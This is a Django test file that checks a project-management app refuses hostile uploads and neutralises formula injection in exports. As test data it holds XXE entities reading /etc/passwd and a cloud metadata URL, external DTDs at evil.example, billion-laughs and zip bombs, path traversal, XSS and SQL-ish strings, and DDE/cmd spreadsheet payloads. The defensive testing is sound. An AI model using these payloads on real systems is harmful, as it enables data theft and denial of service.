"""Hostile uploads: empty, oversized, disguised and malformed files, XML bombs and external entities, spreadsheets
with absurd dimensions, wrong encodings and bad cells. Each is refused with a message naming the problem, and the
import writes nothing (the whole file or nothing). Exports neutralise formula injection."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from pmo.progress.services import import_costs
from pmo.raid import services as raid_services
from pmo.raid.exchange import import_register
from pmo.raid.models import Issue, Risk
from pmo.schedule import services as schedule_services
from pmo.schedule.exchange import export_schedule, import_schedule
from pmo.schedule.models import Schedule

from .conftest import page_messages

pytestmark = pytest.mark.django_db


# --- building hostile files ---------------------------------------------------------------------------------


def xlsx(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rezip(data: bytes, replace: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    """The .xlsx `data` with some of its parts replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as target:
        for item in source.infolist():
            target.writestr(item.filename, replace.get(item.filename, source.read(item.filename)))
    return out.getvalue()


def huge_dimension(rows: list[list]) -> bytes:
    """An .xlsx whose sheet claims the largest possible size (A1:XFD1048576) and has a row far down."""
    data = xlsx(rows)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    sheet = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', sheet)
    sheet = sheet.replace(
        "</sheetData>",
        '<row r="100000"><c r="A100000" t="inlineStr"><is><t>2026-02</t></is></c>'
        '<c r="B100000" t="inlineStr"><is><t>veel</t></is></c></row></sheetData>',
    )
    return rezip(data, {"xl/worksheets/sheet1.xml": sheet.encode()})


def entity_in_sheet(rows: list[list]) -> bytes:
    data = xlsx(rows)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    bomb = '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    sheet = bomb + sheet if not sheet.startswith("<?xml") else sheet.replace("?>", "?>" + bomb, 1)
    return rezip(data, {"xl/worksheets/sheet1.xml": sheet.encode()})


def xxe_in_shared_strings(rows: list[list]) -> bytes:
    data = xlsx(rows)
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    part = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in names else "xl/worksheets/sheet1.xml"
    text = zipfile.ZipFile(io.BytesIO(data)).read(part).decode()
    root = text[text.index("<", text.index("?>") + 2 if text.startswith("<?xml") else 0) :].split(" ", 1)[0][
        1:
    ]
    dtd = f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    text = dtd + text if not text.startswith("<?xml") else text.replace("?>", "?>" + dtd, 1)
    text = text.replace("<t>", "<t>&xxe;", 1)
    return rezip(data, {part: text.encode()})


def broken_sheet_xml(rows: list[list]) -> bytes:
    data = xlsx(rows)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    return rezip(data, {"xl/worksheets/sheet1.xml": sheet[: len(sheet) // 2]})


def zip_bomb(rows: list[list]) -> bytes:
    """A workbook whose sheet unpacks to more than 100 MB (it compresses to a few hundred KB)."""
    data = xlsx(rows)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    padded = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * (110 * 1024 * 1024), 1)
    return rezip(data, {"xl/worksheets/sheet1.xml": padded})


def plain_zip(_rows) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return out.getvalue()


COST_ROWS = [["month", "actual"], ["2026-01", 100]]
RISK_ROWS = [["title", "probability", "impact", "status"], ["Risico", 3, 3, "open"]]

#: (file name, builder or bytes, the words of the message)
BAD_TABLE_FILES = {
    "empty-csv": ("x.csv", b"", "the file is empty"),
    "empty-xlsx": ("x.xlsx", b"", "not a readable Excel"),
    "header-only-bom": ("x.csv", b"\xef\xbb\xbf", "the file is empty"),
    "zip-pretending-xlsx": ("x.xlsx", plain_zip, "not a readable Excel"),
    "csv-pretending-xlsx": ("x.xlsx", b"month,actual\n2026-01,5\n", "not a readable Excel"),
    "truncated-xlsx": ("x.xlsx", lambda rows: xlsx(rows)[:900], "not a readable Excel"),
    "pdf-pretending-xlsx": ("x.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "not a readable Excel"),
    "xlsx-huge-dimension": ("x.xlsx", huge_dimension, "row 100000"),
    "xlsx-entity-bomb-in-sheet": ("x.xlsx", entity_in_sheet, "not a readable Excel"),
    "xlsx-external-entity": ("x.xlsx", xxe_in_shared_strings, "not a readable Excel"),
    "xlsx-broken-sheet-xml": ("x.xlsx", broken_sheet_xml, "not a readable Excel"),
    "xlsx-zip-bomb": ("x.xlsx", zip_bomb, "unpacks to more than"),
    "csv-utf16": ("x.csv", "month,actual\n2026-01,5\n".encode("utf-16"), "not UTF-8"),
    "csv-utf16-be-no-bom": ("x.csv", "month,actual\n2026-01,5\n".encode("utf-16-be"), None),
    "csv-latin1": ("x.csv", "month,actual,note\n2026-01,5,één\n".encode("latin-1"), "not UTF-8"),
    "csv-nul-byte": ("x.csv", b"title,month,actual\nA\x00B,2026-01,5\n", "control character"),
    "csv-control-char": ("x.csv", b"title,month,actual\nA\x1bB,2026-01,5\n", "control character"),
    "csv-too-many-columns": ("x.csv", (",".join(f"c{i}" for i in range(5000)) + "\n").encode(), "columns"),
    "csv-huge-field": ("x.csv", b'title,month,actual\n"' + b"x" * 200_000 + b'",2026-01,5\n', None),
    "csv-duplicate-column": ("x.csv", b"title,title,month,actual\nA,B,2026-01,5\n", "appears twice"),
    "wrong-extension": ("x.exe", b"month,actual\n2026-01,5\n", "use a .csv or .xlsx file"),
    "no-extension": ("costs", b"month,actual\n2026-01,5\n", "use a .csv or .xlsx file"),
}


def _file(spec, rows):
    name, content, message = spec
    return name, (content(rows) if callable(content) else content), message


@pytest.mark.parametrize("case", list(BAD_TABLE_FILES), ids=list(BAD_TABLE_FILES))
def test_a_bad_cost_file_is_refused_and_nothing_is_imported(org, unchanged, case):
    name, data, message = _file(BAD_TABLE_FILES[case], COST_ROWS)
    with unchanged(), pytest.raises(ValidationError) as error:
        import_costs(org.project, data, name, acting_user=org.pm)
    if message:
        assert message in str(error.value)


@pytest.mark.parametrize("case", list(BAD_TABLE_FILES), ids=list(BAD_TABLE_FILES))
def test_a_bad_register_file_is_refused_and_nothing_is_imported(org, raid_scale, unchanged, case):
    name, data, message = _file(BAD_TABLE_FILES[case], RISK_ROWS)
    with unchanged(), pytest.raises(ValidationError) as error:
        import_register(org.project, Risk, data, name, acting_user=org.pm)
    if message:
        assert message in str(error.value)


BAD_COST_CELLS = {
    "actual-1e309": ("month,actual\n2026-01,1e309\n", "digits"),
    "actual-nan": ("month,actual\n2026-01,NaN\n", "is not a number"),
    "actual-infinity": ("month,actual\n2026-01,Infinity\n", "is not a number"),
    "actual-beyond-64-bit": (f"month,actual\n2026-01,{2**70}\n", "digits"),
    "actual-40-decimals": ("month,actual\n2026-01,1.1234567890123456789012345678901234567890\n", "digits"),
    "actual-negative": ("month,actual\n2026-01,-5\n", "cannot be negative"),
    "actual-formula": ("month,actual\n2026-01,=1+1\n", "is not a number"),
    "month-year-0": ("month,actual\n0000-01,5\n", "is not a month"),
    "month-year-10000": ("month,actual\n10000-01,5\n", "is not a month"),
    "month-1899": ("month,actual\n1899-12,5\n", "outside the years"),
    "month-feb-30": ("month,actual\n2026-02-30,5\n", "is not a month"),
    "month-sqlish": ("month,actual\n' OR 1=1 --,5\n", "is not a month"),
    "good-then-bad-row": ("month,actual\n2026-01,5\n2026-02,5\n2026-03,veel\n", "row 4"),
}


@pytest.mark.parametrize("case", list(BAD_COST_CELLS), ids=list(BAD_COST_CELLS))
def test_a_bad_cost_cell_is_named_and_nothing_is_imported(org, unchanged, case):
    text, message = BAD_COST_CELLS[case]
    with unchanged(), pytest.raises(ValidationError) as error:
        import_costs(org.project, text.encode(), "costs.csv", acting_user=org.pm)
    assert message in str(error.value)


def test_a_1899_excel_date_cell_is_refused(org, unchanged):
    """Excel's day zero (1899-12-30) is what an empty date formula shows: never a real month of costs."""
    data = xlsx([["month", "actual"], [dt.datetime(1899, 12, 1), 5]])
    with unchanged(), pytest.raises(ValidationError, match="outside the years"):
        import_costs(org.project, data, "costs.xlsx", acting_user=org.pm)


BAD_RISK_CELLS = {
    "title-10000-chars": ("title,probability,impact\n" + "t" * 10_000 + ",3,3\n", "at most 200 characters"),
    "title-rtl-override": ("title,probability,impact\nRisk\u202eexe.pdf,3,3\n", "U+202E"),
    "probability-1e309": ("title,probability,impact\nA,1e309,3\n", "probability"),
    "probability-nan": ("title,probability,impact\nA,NaN,3\n", "is not a number"),
    "probability-negative": ("title,probability,impact\nA,-1,3\n", "probability"),
    "probability-beyond-64-bit": (f"title,probability,impact\nA,{2**70},3\n", "probability"),
    "probability-fraction": ("title,probability,impact\nA,2.5,3\n", "is not a number"),
    "cost-impact-40-digits": ("title,probability,impact,cost_impact\nA,3,3," + "9" * 40 + "\n", "digits"),
    "cost-impact-negative": ("title,probability,impact,cost_impact\nA,3,3,-100\n", "cost_impact"),
    "proximity-year-0": ("title,probability,impact,proximity\nA,3,3,0000-01-01\n", "is not a date"),
    "proximity-year-10000": ("title,probability,impact,proximity\nA,3,3,10000-01-01\n", "is not a date"),
    "proximity-1899": ("title,probability,impact,proximity\nA,3,3,1899-12-31\n", "outside the years"),
    "proximity-feb-30": ("title,probability,impact,proximity\nA,3,3,2026-02-30\n", "is not a date"),
    "owner-sqlish": ("title,probability,impact,owner\nA,3,3,' OR 1=1 --\n", "is not known here"),
    "status-unknown": ("title,probability,impact,status\nA,3,3,<script>\n", "is not one of the choices"),
    "reference-beyond-64-bit": (
        f"reference,title,probability,impact\nR-{2**70},A,3,3\n",
        "is not known here",
    ),
    "reference-sqlish": ("reference,title,probability,impact\nR-1 OR 1=1,A,3,3\n", "is not known here"),
    "no-title-column": ("naam,probability\nA,3\n", "a 'title' column is needed"),
    "good-then-bad-row": ("title,probability,impact\nA,3,3\nB,3,3\nC,9,3\n", "row 4"),
}


@pytest.mark.parametrize("case", list(BAD_RISK_CELLS), ids=list(BAD_RISK_CELLS))
def test_a_bad_register_cell_is_named_and_nothing_is_imported(org, raid_scale, unchanged, case):
    text, message = BAD_RISK_CELLS[case]
    with unchanged(), pytest.raises(ValidationError) as error:
        import_register(org.project, Risk, text.encode(), "risks.csv", acting_user=org.pm)
    assert message in str(error.value)


def test_a_bad_issue_due_date_is_named(org, raid_scale, unchanged):
    with unchanged(), pytest.raises(ValidationError, match="is not a date"):
        import_register(org.project, Issue, b"title,due\nA,2026-02-30\n", "issues.csv", acting_user=org.pm)


# --- MS Project XML -----------------------------------------------------------------------------------------

NS = "http://schemas.microsoft.com/project"
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + f']><Project xmlns="{NS}"><Name>&lol9;</Name></Project>'
)
BAD_XML = {
    "billion-laughs": (BILLION_LAUGHS.encode(), "entity"),
    "quadratic-blowup": (
        (
            f'<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY a "{"a" * 50_000}">]><Project xmlns="{NS}">'
            + "&a;" * 5_000
            + "</Project>"
        ).encode(),
        "entity",
    ),
    "external-entity-passwd": (
        f'<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f'<Project xmlns="{NS}"><Name>&xxe;</Name></Project>'.encode(),
        "external entity",
    ),
    "external-entity-http": (
        f'<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/">]>'
        f'<Project xmlns="{NS}"><Name>&xxe;</Name></Project>'.encode(),
        "external entity",
    ),
    "parameter-entity": (
        b'<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
        b"<Project/>",
        "refused",
    ),
    "external-dtd": (
        f'<?xml version="1.0"?><!DOCTYPE Project SYSTEM "http://evil.example/p.dtd"><Project xmlns="{NS}"/>'.encode(),
        "refused",
    ),
    "internal-dtd": (
        f'<?xml version="1.0"?><!DOCTYPE Project [<!ELEMENT Project ANY>]><Project xmlns="{NS}"/>'.encode(),
        "document type declaration",
    ),
    "truncated": (
        f'<?xml version="1.0"?><Project xmlns="{NS}"><Tasks><Task><UID>1'.encode(),
        "not well-formed",
    ),
    "empty-0-byte": (b"", "empty"),
    "whitespace-only": (b"   \n\t  ", "empty"),
    "zip-pretending-xml": (plain_zip(None), "ZIP archive"),
    "mpp-binary": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "binary Microsoft Project"),
    "plain-text": (b"Task 1, 5 days\n", "plain text"),
    "html": (b"<html><body><script>alert(1)</script></body></html>", "HTML page"),
    "other-root": (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "root",
    ),
    "utf16-with-dtd": (
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Project [<!ENTITY a "b">]><Project xmlns="{NS}"/>'.encode(
            "utf-16"
        ),
        "refused",
    ),
    "oversized-21-mb": (
        f'<Project xmlns="{NS}"><Name>'.encode() + b"x" * (21 * 1024 * 1024) + b"</Name></Project>",
        "more than the limit",
    ),
}


@pytest.mark.parametrize("case", list(BAD_XML), ids=list(BAD_XML))
def test_a_hostile_ms_project_file_is_refused_and_nothing_is_imported(org, unchanged, case):
    data, message = BAD_XML[case]
    with unchanged(), pytest.raises(ValidationError) as error:
        import_schedule(org.project, data, acting_user=org.pm)
    if message:
        assert message in str(error.value)
    assert "root:" not in str(error.value) and "/bin/" not in str(error.value)  # nothing of /etc/passwd


def test_xinclude_is_never_processed(org):
    """Not refused, but harmless: the parser does not follow XInclude, so nothing of the local file is read."""
    data = (
        f'<Project xmlns="{NS}" xmlns:xi="http://www.w3.org/2001/XInclude"><Tasks><Task><UID>1</UID><ID>1</ID>'
        '<Name><xi:include href="file:///etc/passwd" parse="text"/></Name></Task></Tasks></Project>'
    ).encode()
    try:
        import_schedule(org.project, data, acting_user=org.pm)
    except ValidationError as error:
        assert "root:" not in str(error)
    from pmo.schedule.models import Task

    assert not Task.objects.filter(name__contains="root:").exists()


@pytest.fixture
def exported(org) -> bytes:
    """A valid MS Project file of P-2's schedule (then removed, so it can be imported into P-1)."""
    plan = schedule_services.create_schedule(
        org.other_project, acting_user=org.admin, start=dt.date(2026, 3, 2)
    )
    a = schedule_services.create_task(plan, acting_user=org.admin, name="Ontwerp", duration=10)
    b = schedule_services.create_task(plan, acting_user=org.admin, name="Bouw", duration=20)
    schedule_services.add_link(a, b, acting_user=org.admin)
    return export_schedule(plan)


BAD_MSPDI_VALUES = {
    "duration-absurd": (
        r"<Duration>PT\d+H\d+M\d+S</Duration>",
        "<Duration>PT99999999999999999H0M0S</Duration>",
        "limit of 10000",
    ),
    "uid-sqlish": (r"<UID>\d+</UID>", "<UID>' OR 1=1 --</UID>", "no valid <UID>"),
    "name-nul-reference": (r"<Name>Ontwerp</Name>", "<Name>Ont&#0;werp</Name>", "not well-formed"),
}
#: values an import takes over leniently (noted, clamped or recalculated): never a server error, never absurd data
LENIENT_MSPDI_VALUES = {
    "duration-negative": (r"<Duration>PT\d+H\d+M\d+S</Duration>", "<Duration>-PT80H0M0S</Duration>"),
    "start-year-0": (r"<Start>\d{4}-", "<Start>0000-"),
    "start-year-10000": (r"<Start>\d{4}-", "<Start>10000-"),
    "start-feb-30": (r"<Start>\d{4}-\d\d-\d\d", "<Start>2026-02-30"),
    "outline-level-beyond-64-bit": (
        r"<OutlineLevel>\d+</OutlineLevel>",
        f"<OutlineLevel>{2**70}</OutlineLevel>",
    ),
    "percent-complete-1e309": (
        r"<PercentComplete>\d+</PercentComplete>",
        "<PercentComplete>1e309</PercentComplete>",
    ),
}


@pytest.mark.parametrize("case", list(LENIENT_MSPDI_VALUES), ids=list(LENIENT_MSPDI_VALUES))
def test_odd_values_in_an_ms_project_file_are_taken_over_sanely(org, exported, case):
    pattern, replacement = LENIENT_MSPDI_VALUES[case]
    text, n = re.subn(pattern, replacement, exported.decode(), count=1)
    assert n == 1, f"the export has no {pattern}"
    import_schedule(org.project, text.encode(), acting_user=org.pm)
    tasks = Schedule.objects.get(project=org.project).tasks.all()
    assert all(0 <= t.duration <= 10_000 and 0 <= t.percent_complete <= 100 for t in tasks)
    assert all(dt.date(1900, 1, 1) < t.early_start < dt.date(2200, 1, 1) for t in tasks)


@pytest.mark.parametrize("case", list(BAD_MSPDI_VALUES), ids=list(BAD_MSPDI_VALUES))
def test_absurd_values_in_an_ms_project_file_are_refused_and_nothing_is_imported(
    org, exported, unchanged, case
):
    pattern, replacement, message = BAD_MSPDI_VALUES[case]
    text, n = re.subn(pattern, replacement, exported.decode(), count=1)
    assert n == 1, f"the export has no {pattern}"
    with unchanged(), pytest.raises(ValidationError) as error:
        import_schedule(org.project, text.encode(), acting_user=org.pm)
    assert message in str(error.value)


# --- the upload forms ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url_name", "data", "message"),
    [
        ("progress:cost_import", b"x" * (5 * 1024 * 1024 + 1), "larger than 5 MB"),
        ("raid:register_import", b"x" * (5 * 1024 * 1024 + 1), "larger than 5 MB"),
        ("progress:cost_import", b"", "The submitted file is empty"),
        ("schedule:schedule_import", BILLION_LAUGHS.encode(), "entity"),
        ("schedule:schedule_import", b"", "The submitted file is empty"),
    ],
    ids=["costs-oversized", "register-oversized", "costs-0-byte", "schedule-bomb", "schedule-0-byte"],
)
def test_an_upload_form_refuses_with_a_message_and_writes_nothing(
    org, raid_scale, client_for, unchanged, url_name, data, message
):
    client = client_for(org.pm)
    with unchanged():
        response = client.post(
            reverse(url_name, args=[org.project.pk]),
            {"kind": "risk", "file": SimpleUploadedFile("upload.csv", data)},
            follow=True,
        )
    assert response.status_code == 200
    assert any(message in m for m in page_messages(response)), page_messages(response)


BAD_DOCUMENTS = {
    "exe": ("setup.exe", b"MZ\x90\x00", "not allowed"),
    "html": ("page.html", b"<script>alert(1)</script>", "not allowed"),
    "svg": ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "not allowed"),
    "double-extension": ("plan.pdf.exe", b"%PDF-1.4", "not allowed"),
    "html-named-pdf": ("plan.pdf", b"<html><script>alert(1)</script></html>", "do not agree"),
    "zip-named-docx": ("plan.docx", plain_zip(None), "do not agree"),
    "text-with-nul": ("notes.txt", b"abc\x00def", "do not agree"),
    "text-utf16": ("notes.txt", "tekst".encode("utf-16"), "do not agree"),
    "markdown-latin1": ("notes.md", "één".encode("latin-1"), "do not agree"),
    "path-traversal": ("../../../etc/passwd", b"root:x:0:0", "not allowed"),
    "empty": ("plan.pdf", b"", "empty"),
    "oversized": ("plan.pdf", b"%PDF-1.7" + b"0" * 3000, "the limit is"),
}


@pytest.mark.parametrize("case", list(BAD_DOCUMENTS), ids=list(BAD_DOCUMENTS))
def test_a_hostile_document_upload_is_refused_and_nothing_is_stored(
    org, client_for, unchanged, settings, case
):
    settings.PMO_UPLOAD_MAX_BYTES = 2048
    name, content, message = BAD_DOCUMENTS[case]
    client = client_for(org.pm)
    data = {
        "title": "Plan",
        "kind": "Plan",
        "revision": "1",
        "status": "draft",
        "file": SimpleUploadedFile(name, content),
    }
    with unchanged():
        response = client.post(reverse("projects:document_add", args=[org.project.pk]), data)
    assert response.status_code == 200
    errors = " ".join(
        response.context["form"].errors.get("file", []) + response.context["form"].non_field_errors()
    )
    assert errors, response.context["form"].errors
    assert message in errors, errors


# --- exports: formula injection -----------------------------------------------------------------------------

FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example","klik")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "dde": '=DDE("cmd";"/C calc";"!A0")',
}


def _assert_text_only(data: bytes, expected: str) -> None:
    """Opened again with openpyxl: the value is a text cell, never a formula; and no formula in the file at all."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == expected]
    assert cells, f"{expected!r} is not in the export"
    assert all(c.data_type == "s" for c in cells), [c.data_type for c in cells]
    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(name)


@pytest.mark.parametrize("title", list(FORMULAS.values()), ids=list(FORMULAS))
def test_formula_injection_in_a_risk_comes_out_as_text_in_the_register_export(
    org, raid_scale, client_for, title
):
    """In the cause (a text that may hold tabs and line breaks); titles refuse control characters."""
    raid_services.log_item(
        Risk, acting_user=org.pm, project=org.project, title="Formule", cause=title, probability=3, impact=3,
        cost_impact=Decimal(5),
    )  # fmt: skip
    response = client_for(org.member).get(reverse("raid:risk_export") + f"?project={org.project.pk}")
    assert response.status_code == 200
    _assert_text_only(response.content, title)


ONE_LINE_FORMULAS = {k: v for k, v in FORMULAS.items() if not v[0].isspace()}


@pytest.mark.parametrize("name", list(ONE_LINE_FORMULAS.values()), ids=list(ONE_LINE_FORMULAS))
def test_formula_injection_in_a_project_name_comes_out_as_text_in_the_report_pack(org, name):
    from pmo.projects import services as project_services
    from pmo.reports.content import project_content
    from pmo.reports.render import render_xlsx

    project_services.update_project(
        org.project, acting_user=org.admin, expected_version=org.project.version, name=name
    )
    org.project.refresh_from_db()
    _assert_text_only(render_xlsx(project_content(org.project, title=name), lambda _p: None), name)
